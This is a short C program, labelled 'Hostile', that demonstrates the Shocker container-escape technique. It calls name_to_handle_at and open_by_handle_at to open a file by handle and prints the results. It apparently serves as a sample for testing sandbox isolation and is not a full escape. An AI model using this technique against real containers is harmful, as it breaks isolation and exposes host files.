/* Hostile: the "shocker" container escape: open a host file by its handle,
 * which needs no path inside the box's view. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>

int main(void)
{
    struct file_handle *h = malloc(sizeof *h + 128);
    int mount_id;
    h->handle_bytes = 128;
    int a = name_to_handle_at(AT_FDCWD, "/box", h, &mount_id, 0);
    int b = open_by_handle_at(AT_FDCWD, h, O_RDONLY);
    printf("handles = %d %d\n", a, b);
    return 0;
}
